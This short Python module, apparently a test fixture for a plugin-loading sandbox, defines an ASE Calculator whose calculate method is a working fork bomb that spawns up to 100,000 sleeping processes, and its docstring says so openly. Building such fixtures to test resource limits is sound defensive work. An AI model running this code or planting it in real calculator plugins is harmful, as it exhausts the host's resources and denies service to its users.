"""A fork bomb, as far as it gets."""

import os
import time

from ase.calculators.calculator import Calculator


class Forks(Calculator):
    implemented_properties = ["energy", "forces"]

    def calculate(self, *args):
        for _ in range(100_000):
            if os.fork() == 0:
                time.sleep(600)


def load(device):
    return Forks()
